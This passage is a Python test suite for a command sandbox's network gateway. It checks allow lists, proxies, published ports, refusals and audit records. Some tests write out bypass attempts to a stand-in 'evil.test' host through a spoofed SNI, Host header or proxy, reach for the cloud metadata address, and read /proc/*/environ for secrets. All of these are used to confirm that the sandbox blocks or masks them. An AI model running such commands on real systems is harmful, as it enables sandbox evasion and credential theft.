"""Network by name: real programs reach real servers by way of the gateway, and nothing else."""
import hashlib
import json
import os
import pathlib
import re
import shutil
import signal
import subprocess
import time

from helpers import DEADLINE, NACRE, NacreTest, ample, descendants, wait_until
from outside import HOST, SERVER, Outside, missing

NAMES = {"a.test": [SERVER], "b.test": [SERVER], "x.ask.test": [SERVER], "private.test": ["10.0.0.7"],
         "mixed.test": [SERVER, "10.0.0.7"], "own.test": [HOST], "metadata.test": ["169.254.169.254"],
         "turns.test": [[SERVER], [HOST], [HOST]], "mapped.test": ["::ffff:127.0.0.1"], "loop.test": ["127.0.0.1"]}

POLICY = """profile: net
inherits: bash
sandbox:
  network:
    allow: [a.test, "a.test:8443", private.test, mixed.test, own.test, metadata.test, turns.test, mapped.test, loop.test,
            missing.test, "host.nacre:8080"]
    ask: [b.test, "*.ask.test"]
    deny: [denied.test]
"""


class NetworkTest(NacreTest):
    BOXED = True
    POLICY = POLICY
    NAMES = NAMES

    def setUp(self):
        super().setUp()
        reason = missing()
        if reason:
            self.skipTest(reason)
        os.chmod(self.dir, 0o755)
        self.outside = self.make_outside()
        self.addCleanup(self.outside.close)
        self.write_config("net.yaml", self.POLICY)
        self.user = None
        self.program = NACRE

    def make_outside(self):
        place = self.dir / "outside"
        place.mkdir()
        return Outside(place, self.NAMES)

    def become(self, who):
        """WHO: root or user. Later calls are his."""
        self.user, self.program = None, NACRE
        if who == "root":
            for path in (self.dir, self.work, self.tmp):
                os.chown(path, 0, 0)
            self.env["NACRE_STATE_DIR"] = str(self.state)
        else:
            options = self.as_ordinary_user()
            self.user, self.program = options["user"], options["program"]
            for path in (self.config, self.config / "nacre", self.config / "nacre" / "net.yaml"):
                os.chmod(path, 0o755)
            self.env["NACRE_STATE_DIR"] = str(self.dir / "state-of-user")
            (self.dir / "state-of-user").mkdir(0o700, exist_ok=True)
            os.chown(self.dir / "state-of-user", self.user, self.user)

    def start(self, *args, env=None, **options):
        options.setdefault("stdin", subprocess.DEVNULL)
        options.setdefault("stdout", subprocess.PIPE)
        options.setdefault("stderr", subprocess.PIPE)
        popen = subprocess.Popen([*self.outside.inside(self.work, self.user), self.program, "run", "--profile", "net", *args],
                                 env={**self.env, **(env or {})}, **options)
        self.started.append(popen)
        return popen

    def nacre(self, *args):
        return subprocess.run([*self.outside.inside(self.work, self.user), self.program, *args], env=self.env, check=True,
                              capture_output=True, text=True, timeout=DEADLINE).stdout

    def call(self, line, *options, **more):
        result = self.run_json(*options, "-c", line, **more)
        if result["sandbox"]["tier"] == "landlock":
            self.skipTest("userns: not permitted here")
        return result

    def says(self, line, *options, **more):
        result = self.call(line, *options, **more)
        self.assertEqual(result["exit_code"], 0, result)
        return result["stdout"]

    def records(self, *kinds):
        state = pathlib.Path(self.env["NACRE_STATE_DIR"])
        found = [json.loads(line) for path in sorted((state / "audit").glob("log.*")) for line in path.read_text().splitlines()]
        return [record for record in found if record["event"] in kinds]


class Reach(NetworkTest):
    def test_programs_without_any_proxy_variable(self):
        cert = self.outside.certificates("a.test")
        self.outside.web()
        self.outside.web(443, cert)
        shutil.copy(self.outside.dir / "ca.pem", self.work / "ca.pem")
        lines = {"curl": "curl -sS http://a.test/x", "curl-tls": "curl -sS --cacert ca.pem https://a.test/x",
                 "wget": "wget -qO- http://a.test/x",
                 "perl": "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(q(a.test:80)); "
                         "print $s qq(GET /x HTTP/1.0\\r\\nHost: a.test\\r\\n\\r\\n); print <$s>'",
                 "python3": "python3 -c 'import urllib.request as u; print(u.urlopen(\"http://a.test/x\").read().decode())'",
                 "node": "node -e 'fetch(\"http://a.test/x\").then(r => r.text()).then(console.log)'",
                 "node-tls": "NODE_EXTRA_CA_CERTS=ca.pem node -e 'fetch(\"https://a.test/x\").then(r => r.text()).then(console.log)'"}
        for who in ("root", "user"):
            self.become(who)
            for name, line in lines.items():
                if not shutil.which(name.split("-")[0]):
                    continue
                with self.subTest(who=who, program=name):
                    self.assertIn("hello a.test /x", self.says(line))

    def test_git_over_http(self):
        source = self.outside.dir / "site" / "repo"
        source.mkdir(parents=True)
        git = {"cwd": source, "check": True, "capture_output": True,
               "env": {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
                       "GIT_COMMITTER_EMAIL": "t@t", "HOME": str(self.outside.dir)}}
        for words in (["init", "-q"], ["commit", "-q", "--allow-empty", "-m", "first"], ["update-server-info"]):
            subprocess.run(["git", *words], **git)
        self.outside.serve("import functools, http.server as h\n"
                           f"s = h.ThreadingHTTPServer(('', 80), functools.partial(h.SimpleHTTPRequestHandler, "
                           f"directory={str(source.parent)!r}))\nprint('ready', flush=True)\ns.serve_forever()")
        self.assertIn("first", self.says("git clone -q http://a.test/repo/.git got && git -C got log --oneline"))

    def test_kept_boxes_and_sessions(self):
        self.outside.web()
        for who in ("root", "user"):
            self.become(who)
            for session in (None, "s"):
                requests = "".join(json.dumps({"command": f"curl -sS http://a.test/{i}", **({"session": session} if session else {})})
                                   + "\n" for i in range(8))
                done = self.run_nacre("--batch", input=requests.encode())
                results = [json.loads(line)["result"] for line in done.out.splitlines()]
                with self.subTest(who=who, session=session):
                    self.assertEqual(sorted(r["stdout"] for r in results), [f"hello a.test /{i}\n" for i in range(8)])

    def test_calls_of_a_session_share_loopback_and_gateway(self):
        self.outside.web()
        for who in ("root", "user"):
            self.become(who)
            with self.subTest(who=who):
                task = self.call("python3 -m http.server 8000", "--session", "s", "--background")["task_id"]
                wait_until("the server answers", lambda: self.call("curl -sS http://127.0.0.1:8000/", "--session", "s")
                           ["exit_code"] == 0)
                self.assertIn("hello", self.says("curl -sS http://a.test/", "--session", "s"))
                self.assertNotEqual(self.call("curl -sS http://127.0.0.1:8000/", "--session", "other")["exit_code"], 0)
                self.nacre("stop", task)

    def test_a_command_without_network_starts_no_gateway(self):
        result = self.call("ls")
        self.assertEqual(result["network"], {"connections": 0, "refused_count": 0, "refused": []})
        self.assertEqual(self.records("network", "network-ended"), [])

    def test_resolver_files_are_the_box_own(self):
        text = self.says("cat /etc/resolv.conf /etc/hosts; ls /sys/class/net")
        self.assertIn("nameserver 198.18.0.2", text)
        self.assertNotIn(SERVER, text)

    def test_services_of_the_host_by_exact_entry(self):
        self.outside.web(8080, near=True)
        self.assertIn("hello host.nacre", self.says("curl -sS http://host.nacre:8080/"))
        refused = self.call("curl -sS http://host.nacre:8081/")["network"]["refused"]
        self.assertEqual([(r["name"], r["port"], r["reason"]) for r in refused], [("host.nacre", 8081, "port")])


class Via(NetworkTest):
    """A proxy above: names go up by CONNECT, and nothing is looked up here."""
    POLICY = POLICY + f"    via: http://{SERVER}:3128\n"

    def proxy(self):
        heads = self.outside.dir / "heads"
        self.outside.serve("import socket, threading\ndef one(c):\n    h = b''\n    while b'\\r\\n\\r\\n' not in h: h += c.recv(4096)\n"
                           f"    open({str(heads)!r}, 'ab').write(h)\n"
                           "    n, p = h.split()[1].decode().split(':'); u = socket.create_connection(('127.0.0.1', int(p)))\n"
                           "    c.sendall(b'HTTP/1.1 200 OK\\r\\n\\r\\n')\n    def pump(a, b):\n        while (d := a.recv(4096)): b.sendall(d)\n        b.shutdown(1)\n"
                           "    threading.Thread(target=pump, args=(u, c)).start(); pump(c, u)\n"
                           "s = socket.create_server(('', 3128))\nprint('ready', flush=True)\n"
                           "while True: threading.Thread(target=one, args=(s.accept()[0],), daemon=True).start()")
        return heads

    def test_names_go_up(self):
        self.outside.web()
        self.proxy()
        self.assertEqual(self.says("curl -sS --max-time 20 http://a.test/up"), "hello a.test /up\n")
        self.assertEqual(self.outside.asked(), [])

    def test_the_environment_of_nacre_and_its_password(self):
        self.write_config("net.yaml", POLICY + "    via: environment\n    private: [private.test]\n")
        self.outside.web()
        heads = self.proxy()
        env = {"https_proxy": f"http://someone:s3cret%21@{SERVER}:3128", "no_proxy": "own.test,.direct.test"}
        line = "curl -sS --max-time 20 http://a.test/up; env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'"
        for who in ("root", "user"):
            self.become(who)
            for options in ((), ("--session", "s")):
                with self.subTest(who=who, options=options):
                    heads.unlink(missing_ok=True)
                    done = self.call(line, *options, env=env)
                    self.assertIn("hello a.test /up\n", done["stdout"])
                    self.assertIn(b"Proxy-Authorization: Basic c29tZW9uZTpzM2NyZXQh\r\n", heads.read_bytes())
                    self.assertNotIn("s3cret", json.dumps(done))
        self.assertEqual(self.outside.asked(), [], "the proxy looks names up")
        heads.unlink()
        result = self.call("curl -sS --max-time 20 http://own.test/; curl -sS --max-time 20 http://private.test/", env=env)
        self.assertEqual(result["network"]["refused"][0]["reason"], "private", "one of no_proxy is judged as without a proxy")
        self.assertFalse(heads.exists(), "neither goes up")
        self.assertEqual(set(self.outside.asked()), {"own.test", "private.test"})
        requests = json.dumps({"command": "curl -sS http://a.test/batch", "env": {"https_proxy": "http://192.0.2.77:1"}}) + "\n"
        batch = self.start("--batch", stdin=subprocess.PIPE, env=env)
        out, _ = batch.communicate(requests.encode(), timeout=DEADLINE)
        self.assertTrue(heads.exists(), out)
        self.env.update(env)
        texts = [self.nacre("audit", "show", "--json"), self.nacre("policy", "show", "--profile", "net"), self.nacre("doctor")]
        self.assertFalse([text for text in texts if "s3cret" in text or "c29tZW9uZ" in text])

    def test_a_proxy_that_cannot_be_used_closes_the_way(self):
        self.write_config("net.yaml", POLICY + "    via: environment\n")
        self.outside.web()
        for proxy in (f"https://u:s3cret@{SERVER}:3128", f"socks5://{SERVER}:1080", "http://"):
            with self.subTest(proxy=proxy):
                result = self.call("curl -sS --max-time 20 http://a.test/", env={"https_proxy": proxy})
                self.assertNotIn("hello", result["stdout"])
                self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["unreachable"], result)
                self.assertNotIn("s3cret", json.dumps(result))

    def test_the_environment_counts_only_where_the_rules_say_so(self):
        self.outside.web()
        self.write_config("net.yaml", POLICY)
        self.assertIn("hello", self.says("curl -sS --max-time 20 http://a.test/", env={"https_proxy": f"http://{SERVER}:1"}))
        self.write_config("net.yaml", POLICY + "    via: environment\n")
        self.assertIn("hello", self.says("curl -sS --max-time 20 http://a.test/"), "there is no proxy in it")


class Publish(NetworkTest):
    """Ports of the box on 127.0.0.1 of the host, while the task runs."""
    POLICY = POLICY + "    publish: [8080, \"3000:80\", 8099, \"0:8055\"]\n"
    SERVER = ("import http.server, sys, socketserver\n"
              "class H(http.server.BaseHTTPRequestHandler):\n"
              "    def do_GET(self):\n        self.send_response(200); self.end_headers(); self.wfile.write(b'box ' + self.path.encode())\n"
              "    def do_PUT(self):\n        import hashlib; d = self.rfile.read(int(self.headers['Content-Length'])); self.send_response(200); self.end_headers()\n"
              "        self.wfile.write(hashlib.sha256(d).hexdigest().encode())\n"
              "    def log_message(self, *a): pass\n"
              "if ':' in sys.argv[1]: http.server.HTTPServer.address_family = 10\n"
              "s = http.server.ThreadingHTTPServer((sys.argv[1], int(sys.argv[2])), H)\n"
              "open('ready-' + sys.argv[2], 'w').close(); s.serve_forever()\n")

    def setUp(self):
        super().setUp()
        (self.work / "server.py").write_text(self.SERVER)

    def reach(self, where, *more):
        done = subprocess.run([*self.outside.inside(), "curl", "-sS", "--max-time", str(DEADLINE), f"http://{where}", *more],
                              capture_output=True, text=True, timeout=2 * DEADLINE, check=False)
        return done.stdout or done.stderr.strip()

    def serve(self, *options, where="127.0.0.1", port=8080):
        ready = self.work / f"ready-{port}"
        ready.unlink(missing_ok=True)
        task = self.call(f"python3 server.py {where} {port}", "--background", *options)["task_id"]
        wait_until("the server listens", ready.exists)
        return task

    def entry(self, task):
        return next(t for t in json.loads(self.nacre("tasks", "--json"))["tasks"] if t["task_id"] == task)

    def test_background_tasks_with_and_without_a_session(self):
        for who in ("root", "user"):
            self.become(who)
            for options in ((), ("--session", "s")):
                with self.subTest(who=who, options=options):
                    task = self.serve(*options)
                    self.assertEqual(self.reach("127.0.0.1:8080/a"), "box /a")
                    for other in (HOST, "[::1]", "127.0.0.2"):
                        self.assertIn("Couldn't connect", self.reach(f"{other}:8080/"))
                    self.assertEqual(self.call("ls", *options)["notices"], [], "others have no trouble with it")
                    entry = wait_until("it is listed", lambda t=task: self.entry(t) if self.entry(t)["published"] else None)
                    self.assertEqual((entry["ports"], entry["published"]), ([8080], ["8080:8080"]))
                    self.assertRegex(self.nacre("tasks"), r"port 8080 at 127\.0\.0\.1:8080")
                    self.nacre("stop", task)
                    wait_until("it is closed", lambda: "Couldn't connect" in self.reach("127.0.0.1:8080/"))

    def test_low_ports_and_servers_on_ipv6_alone(self):
        for who in ("root", "user"):
            self.become(who)
            with self.subTest(who=who):
                low = self.serve(port=80)
                self.assertEqual(self.reach("127.0.0.1:3000/low"), "box /low")
                self.nacre("stop", low)
                free = self.serve(port=8055)
                [published] = wait_until("a port is told", lambda t=free: self.entry(t)["published"])
                self.assertEqual(self.reach(f"127.0.0.1:{published.split(':')[0]}/any"), "box /any")
                self.nacre("stop", free)
                six = self.serve("--session", "six", where="::1", port=8099)
                self.assertEqual(self.reach("127.0.0.1:8099/six"), "box /six")
                self.nacre("stop", six)

    def test_a_session_keeps_its_ports_when_another_call_ends(self):
        begun = self.start("--json", "--session", "s", "-c", "while [ ! -e go ]; do sleep 0.05; done")
        wait_until("the first call runs", lambda: json.loads(self.nacre("tasks", "--json"))["tasks"])
        task = self.serve("--session", "s")
        slow = subprocess.Popen([*self.outside.inside(), "curl", "-sSN", "-T", "-", "http://127.0.0.1:8080/"],
                                stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        self.started.append(slow)
        (self.work / "go").touch()
        self.assertEqual(json.loads(self.finish(begun).out)["exit_code"], 0)
        self.assertEqual(self.reach("127.0.0.1:8080/b"), "box /b")
        slow.kill()
        self.nacre("stop", task)

    def test_what_a_command_leaves_running_stays_published(self):
        self.write_config("net.yaml", self.POLICY + "room: {leftover: keep}\n")
        result = self.call("python3 server.py 127.0.0.1 8080 & while [ ! -e ready-8080 ]; do sleep 0.05; done", "--session", "s")
        self.assertTrue(result["left_running"], result)
        self.assertEqual(self.reach("127.0.0.1:8080/left"), "box /left")
        self.nacre("stop", result["task_id"])
        wait_until("it is closed", lambda: "Couldn't connect" in self.reach("127.0.0.1:8080/"))

    def test_kept_boxes_one_after_the_other(self):
        for who in ("root", "user"):
            self.become(who)
            line = ("python3 server.py 127.0.0.1 8080 & while [ ! -e ready-8080 ]; do sleep 0.05; done; "
                    "while [ ! -e go-{0} ]; do sleep 0.05; done; rm ready-8080; kill $!; wait; echo done {0}")
            with self.subTest(who=who):
                batch = self.start("--batch", stdin=subprocess.PIPE)
                for i in range(6):
                    batch.stdin.write((json.dumps({"command": line.format(f"{who}{i}")}) + "\n").encode())
                    batch.stdin.flush()
                    wait_until("it listens", lambda: (self.work / "ready-8080").exists())
                    self.assertEqual(self.reach(f"127.0.0.1:8080/{i}"), f"box /{i}")
                    (self.work / f"go-{who}{i}").touch()
                    result = json.loads(batch.stdout.readline())["result"]
                    self.assertEqual((result["stdout"], result["notices"]), (f"done {who}{i}\n", []))
                batch.stdin.close()
                batch.wait(DEADLINE)

    def test_a_port_in_use_is_told_and_taken_when_it_is_free(self):
        held = self.outside.web(8080, near=True)
        for options in ((), ("--session", "s")):
            with self.subTest(options=options):
                result = self.call("timeout 1 python3 server.py 127.0.0.1 8080; echo ran", *options)
                self.assertEqual(result["stdout"], "ran\n")
                self.assertTrue(any("port 8080 of the host is in use" in n and "sandbox.network.publish" in n
                                    for n in result["notices"]), result["notices"])
                self.assertEqual(self.call("true", *options)["notices"], [], "who does not listen misses nothing")
        task = self.serve()
        self.assertIn("hello", self.reach("127.0.0.1:8080/"))
        held.kill()
        held.wait()
        wait_until("the port is taken over", lambda: self.reach("127.0.0.1:8080/late") == "box /late")
        self.nacre("stop", task)

    def test_large_bodies_many_at_once_and_a_porter_that_dies(self):
        task = self.serve()
        body = self.outside.dir / "body"
        body.write_bytes(os.urandom(1 << 20) * 32)
        digest = hashlib.sha256(body.read_bytes()).hexdigest()
        self.assertEqual(self.reach("127.0.0.1:8080/", "-T", str(body)), digest)
        several = [subprocess.Popen([*self.outside.inside(), "curl", "-sS", "--max-time", str(DEADLINE), "-T", str(body), "http://127.0.0.1:8080/"],
                                    stdout=subprocess.PIPE, text=True) for _ in range(8)]
        self.assertEqual([p.communicate(timeout=2 * DEADLINE)[0] for p in several], [digest] * 8)
        [porter] = [p.pid for p in descendants() if (pathlib.Path("/proc") / str(p.pid) / "comm").read_text() == "nacre-porter\n"]
        os.kill(porter, signal.SIGKILL)
        wait_until("another one serves", lambda: self.reach("127.0.0.1:8080/again") == "box /again")
        self.nacre("stop", task)

    def test_a_port_where_nobody_listens_is_reset(self):
        task = self.call("touch began; while [ ! -e go ]; do sleep 0.05; done", "--background")["task_id"]
        wait_until("it runs", (self.work / "began").exists)
        # Until the porter has the port, nobody is there at all.
        wait_until("it is reset", lambda: re.search("reset|Empty reply", self.reach("127.0.0.1:8080/")))
        (self.work / "go").touch()
        wait_until("it has ended", lambda: self.entry(task)["state"] != "running")

    def test_a_project_cannot_add_a_port(self):
        (self.work / ".nacre.yaml").write_text("sandbox: {network: {publish: [8080, 9999]}}\n")
        done = self.run_nacre("--json", "-c", "true")
        self.assertNotEqual(done.code, 0)
        self.assertIn(b"would loosen the profile", done.out + done.err)


class Refuse(NetworkTest):
    def refused(self, line, *options):
        return [(r["name"], r["port"], r["reason"]) for r in self.call(line, *options)["network"]["refused"]]

    def test_names_ports_and_addresses(self):
        self.outside.web()
        rows = [("http://other.test/", "other.test", None, "not-allowed"), ("http://denied.test/", "denied.test", None, "denied"),
                ("http://a.test:81/", "a.test", 81, "port"), (f"http://{SERVER}/", SERVER, 80, "address"),
                ("http://10.1.2.3/", "10.1.2.3", 80, "address"), (f"http://{HOST}:22/", HOST, 22, "address"),
                ("http://[2001:db8::1]/", "2001:db8::1", 80, "address")]
        for url, name, port, reason in rows:
            with self.subTest(url=url):
                self.assertEqual(self.refused(f"curl -sS --max-time 20 {url}"), [(name, port, reason)])
        self.assertNotIn("other.test", self.outside.asked())
        self.assertNotIn("denied.test", self.outside.asked())

    def test_names_that_lead_where_they_must_not(self):
        self.outside.web(near=True)  # the machine's own service must not be reached either
        for name in ("private", "mixed", "own", "metadata", "mapped", "loop"):
            with self.subTest(name=name):
                self.assertEqual(self.refused(f"curl -sS --max-time 20 http://{name}.test/"), [(f"{name}.test", 80, "private")])

    def test_an_answer_that_changes_is_judged_each_time(self):
        self.outside.web()
        self.outside.web(near=True)
        result = self.call("curl -sS --max-time 20 http://turns.test/")
        # The look-up of the program is the first answer; what is dialled is judged by its own.
        self.assertEqual([r["reason"] for r in result["network"]["refused"]], ["private"])
        self.assertNotIn("hello", result["stdout"])

    def test_clients_are_told_in_their_own_language(self):
        cert = self.outside.certificates("a.test")
        self.outside.web(443, cert)
        result = self.call("curl -sS --max-time 20 -k https://a.test:8444/")
        self.assertIn("access denied", result["stderr"].lower(), result)
        result = self.call("curl -sS --max-time 20 -i http://a.test:81/")
        self.assertIn("403", result["stdout"], result)
        self.assertTrue(any("a.test:81 was refused" in n and "sandbox.network.allow" in n for n in result["notices"]), result)

    def test_another_server_name_or_host_is_refused(self):
        cert = self.outside.certificates("a.test", "evil.test")
        self.outside.web()
        self.outside.web(443, cert)
        self.assertEqual(self.refused("curl -sSk --max-time 20 --connect-to evil.test:443:a.test:443 https://evil.test/"),
                         [("a.test", 443, "sni")])
        self.assertEqual(self.refused("curl -sS --max-time 20 -H 'Host: evil.test' http://a.test/"), [("a.test", 80, "host")])
        self.assertEqual(self.refused("curl -sS --max-time 20 -p -x http://a.test:80 http://evil.test/"), [("a.test", 80, "proxy")])

    def test_other_protocols_end_at_once(self):
        text = self.says("python3 - <<'E'\nimport socket, errno\n"
                         "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n"
                         "a = socket.gethostbyname('a.test'); s.connect((a, 443)); s.send(b'x')\n"
                         "try: s.recv(1); print('answer')\nexcept OSError as e: print(errno.errorcode.get(e.errno, e))\nE")
        self.assertEqual(text, "ECONNREFUSED\n")

    def test_names_of_any_server_are_answered_by_the_gateway(self):
        text = self.says("python3 - <<'E'\nimport socket, struct\n"
                         "def ask(name, tcp, to):\n"
                         "    q = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0\\0\\1\\0\\1'\n"
                         "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(10)\n"
                         "    s.connect((to, 53)); s.send((struct.pack('>H', len(q)) if tcp else b'') + q)\n"
                         "    d = s.recv(600)[2 if tcp else 0:]; return d[3] & 15, d[-4:-2].hex()\n"
                         "for tcp in (0, 1):\n    print(ask('a.test', tcp, '8.8.8.8'), ask('other.test', tcp, '8.8.8.8')[0])\nE")
        rows = text.split("\n")
        for row in rows[:2]:
            self.assertRegex(row, r"^\(0, 'c61[23]'\) 3$", text)

    def test_audit_has_each_connection_and_its_end(self):
        self.outside.web()
        self.call("curl -sS http://a.test/; curl -sS http://other.test/; curl -sS http://other.test/")
        dialled, refused = self.records("network")
        self.assertEqual((dialled["name"], dialled["port"], dialled["verdict"], dialled["address"], dialled["rule"]["id"]),
                         ("a.test", 80, "allow", SERVER, "a.test"))
        self.assertEqual((refused["name"], refused["verdict"], refused["reason"]), ("other.test", "deny", "not-allowed"))
        [ended] = self.records("network-ended")
        self.assertEqual((ended["name"], ended["protocol"], ended["end"]), ("a.test", "http", "closed"))
        self.assertEqual(dialled["task_id"], ended["task_id"])
        self.assertGreater(ended["received"], 10)

    def test_audit_as_a_table_for_people(self):
        self.outside.web()
        self.call("curl -sS http://a.test/big100000 | wc -c; curl -sS http://other.test/; curl -sS http://a.test:81/; "
                  "curl -sS http://'$'token.test/ ghp_0123456789abcdefghij0123456789abcdef.other.test")
        rows = self.nacre("audit", "show", "--network").splitlines()
        self.assertEqual(rows[0].split(), ["TIME", "TASK", "NAME", "PORT", "VERDICT", "BYTES", "MS", "REASON", "RULE"])
        self.assertRegex(rows[1], r"^20\S+Z \S+ +a\.test +80 +allow +\d\S* ?\S+ +\d+ +- +a\.test$")
        self.assertRegex(rows[2], r" other\.test +- +deny +- +- +not-allowed +$")
        self.assertRegex(rows[3], r" a\.test +81 +deny +- +- +port")
        self.assertNotIn("ghp_0123456789abcdefghij", "".join(rows), "masked like commands")
        self.assertNotIn("\x1b", "".join(rows))
        events = {r["event"] for r in json.loads(self.nacre("audit", "show", "--network", "--json"))["records"]}
        self.assertEqual(events, {"network", "network-ended"})
        plain = self.nacre("audit", "show")
        self.assertRegex(plain, r"network +\S+ +net +a\.test:80 allow by a\.test\n")
        self.assertRegex(plain, r"network-ended \S+ +net +a\.test:80 closed after ")

    def test_metrics_of_a_server(self):
        self.outside.web()
        socket = self.dir / "s"
        server = subprocess.Popen([*self.outside.inside(self.work), NACRE, "serve", "--profile", "net", "--unix", str(socket), "--workspace", str(self.work)],
                                  env=self.env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        self.started.append(server)
        curl = [*self.outside.inside(), "curl", "-sS", "--max-time", str(DEADLINE), "--unix-socket", str(socket)]
        def get(*words):
            return subprocess.run([*curl, *words], capture_output=True, text=True, check=False).stdout
        def number(name):
            return next((int(line.split()[-1]) for line in get("http://x/v1/metrics").splitlines() if line.startswith(name + " ")), None)
        wait_until("it serves", lambda: number("nacre_network_connections_total") == 0)
        body = json.dumps({"profile": "net", "command": "curl -sS http://a.test/big5000 >x; curl -sS http://other.test/; curl -sS http://b.test/"})
        answer = get("http://x/v1/run", "-H", "Content-Type: application/json", "-d", body)
        self.assertEqual(number("nacre_network_connections_total"), 1, answer)
        self.assertGreaterEqual(number('nacre_network_refused_total{reason="not-allowed"}'), 1)
        self.assertGreaterEqual(number('nacre_network_refused_total{reason="person"}'), 1)
        self.assertGreater(number('nacre_network_bytes_total{direction="received"}'), 5000)
        self.assertGreater(number('nacre_network_bytes_total{direction="sent"}'), 20)
        self.assertEqual(number("nacre_network_questions_total"), 1)
        self.assertGreaterEqual(number("nacre_network_gateways"), 0)
        server.terminate()
        server.wait(DEADLINE)

    def test_what_cannot_be_recorded_is_not_dialled(self):
        self.outside.web()
        log = pathlib.Path(self.env["NACRE_STATE_DIR"]) / "audit"
        popen = self.start("--json", "-c", "touch began; while [ ! -e go ]; do sleep 0.05; done; curl -sS --max-time 20 http://a.test/")
        wait_until("it runs", lambda: (self.work / "began").exists())
        shutil.move(log, self.dir / "moved")
        log.write_text("in the way")
        (self.work / "go").touch()
        result = json.loads(self.finish(popen).out)
        self.assertNotIn("hello", result["stdout"])
        self.assertEqual(result["network"]["connections"], 0, result)


class Explain(NetworkTest):
    """Where a name leads at this moment, and whether commands are taken there."""

    def told(self, host):
        return json.loads(self.nacre("explain", "--json", "--profile", "net", "--network", host))

    def test_names_and_their_addresses(self):
        rows = {"a.test": (["192.0.2.10"], True), "b.test": (["192.0.2.10"], True), "missing.test": ([], None), "private.test": (["10.0.0.7"], False),
                "mixed.test": (["192.0.2.10", "10.0.0.7"], False), "own.test": ([HOST], False), "metadata.test": (["169.254.169.254"], False),
                "loop.test": (["127.0.0.1"], False), "mapped.test": (["::ffff:127.0.0.1"], False), "host.nacre:8080": (None, None),
                "192.0.2.10:80": (None, None)}
        for host, (addresses, fit) in rows.items():
            with self.subTest(host=host):
                told = self.told(host)
                self.assertEqual((told["leads_to"], told["fit"]), (addresses, fit))
        self.assertIn("leads to 192.0.2.10, 10.0.0.7\n  Connections are refused: 10.0.0.7 is private, and the name does not stand in sandbox.network.private.",
                      self.nacre("explain", "--profile", "net", "--network", "mixed.test"))
        self.assertIn("Connections are refused: 192.0.2.1 is this machine.\n", self.nacre("explain", "--profile", "net", "--network", "own.test"))
        self.assertIn("leads nowhere", self.nacre("explain", "--profile", "net", "--network", "missing.test"))

    def test_nothing_is_asked_about_names_that_are_refused_or_go_up(self):
        for host in ("denied.test", "other.test", "a.test:25", "b.test:25"):
            self.assertIsNone(self.told(host)["leads_to"])
        self.write_config("net.yaml", POLICY + "    via: http://192.0.2.10:3128\n")
        self.assertIn("the proxy (sandbox.network.via) looks the name up", self.nacre("explain", "--profile", "net", "--network", "a.test"))
        self.assertEqual(self.outside.asked(), [])


class Learn(NetworkTest):
    """One run with every public name allowed, and the layer that would have been enough."""
    POLICY = POLICY.replace("allow: [a.test, ", "allow: [").replace("ask: [b.test, ", "ask: [b.test, y.test, ")

    def setUp(self):
        NAMES.update({f"{n}.cdn.test": [SERVER] for n in "xyz"})
        super().setUp()

    def learn(self, *args, code=0, env=None):
        done = subprocess.run([*self.outside.inside(self.work, self.user), self.program, "learn", "--profile", "net", *args],
                              env={**self.env, **(env or {})}, capture_output=True, text=True, timeout=DEADLINE, check=False)
        self.assertEqual(done.returncode, code, done)
        return done.stdout if code == 0 else done.stderr

    def test_the_layer_is_enough(self):
        self.outside.web()
        self.outside.web(8090)
        line = ("for u in a.test/big300000 a.test b.test:8090 x.cdn.test y.cdn.test z.cdn.test; do curl -sS --max-time 20 http://$u; done | wc -c; "
                "for u in private.test denied.test metadata.test 192.0.2.2; do curl -sS --max-time 20 http://$u; done")
        for who in ("root", "user"):
            self.become(who)
            with self.subTest(who=who):
                before = self.call(line)
                self.assertNotEqual({r["name"] for r in before["network"]["refused"]} & {"x.cdn.test", "b.test"}, set())
                text = self.learn("-c", line)
                for part in ('- "@inherited"', '- "a.test:80"  # 2 connections, 29', '- "b.test:8090"  # 1 connection', "#.*3 names are below cdn.test.*\"\\*.cdn.test\"",
                             "# refused: private.test:80 \\(private\\)", "# refused: denied.test \\(denied\\)", "# refused: metadata.test:80 \\(private\\)",
                             "# refused: 192.0.2.2:80 \\(address\\)", "# program: /usr/bin/curl|# program: ", "is not seen"):
                    self.assertRegex(text, part)
                entries = [row for row in text.splitlines() if row.lstrip().startswith("-")]
                self.assertFalse([row for row in entries if "*.cdn" in row or "private" in row or "denied" in row], text)
                self.assertLess(text.index("a.test:80"), text.index("x.cdn.test:80"), "the most bytes first")
                layer = self.work / "learned.yaml"
                layer.write_text(text)
                os.chmod(layer, 0o644)
                if self.user:
                    os.chown(layer, self.user, self.user)
                self.nacre("policy", "check", "--profile", "net", str(layer))
                again = self.call(line, "--policy", str(layer))
                self.assertEqual({r["name"] for r in again["network"]["refused"]},
                                 {"private.test", "denied.test", "metadata.test", "192.0.2.2"}, again)
                self.assertEqual(again["network"]["connections"], 6, again)
                layer.unlink()
        self.assertIn("learn", {r["profile"] for r in self.records("network")}, "the log tells that this was learning")

    def test_names_of_ask_words_after_dashes_and_sessions(self):
        self.outside.web()
        for options in ((), ("--session", "s")):
            with self.subTest(options=options):
                text = self.learn(*options, "--", "curl", "-sS", "http://b.test/")
                self.assertIn('- "b.test:80"', text)
                self.assertIn('    ask:', text)
                self.assertNotIn('- "b.test"\n', text)
                self.assertIn('- "y.test"\n', text)
                (self.work / "learned.yaml").write_text(text)
                self.assertIn("hello b.test", self.says("curl -sS http://b.test/", "--policy", "learned.yaml"))
                self.assertEqual(self.call("curl -sS http://y.test/", "--policy", "learned.yaml")["network"]["refused"][0]["reason"], "person")

    def test_a_command_cannot_learn_for_itself(self):
        (self.work / "nacre").write_bytes(pathlib.Path(NACRE).read_bytes())
        os.chmod(self.work / "nacre", 0o755)
        result = self.call("NACRE_STATE_DIR=$PWD/state ./nacre learn -c true")
        self.assertNotEqual(result["exit_code"], 0)
        self.assertIn("does not run inside of a sandbox", result["stderr"], result)

    def test_words_of_the_command_write_no_policy(self):
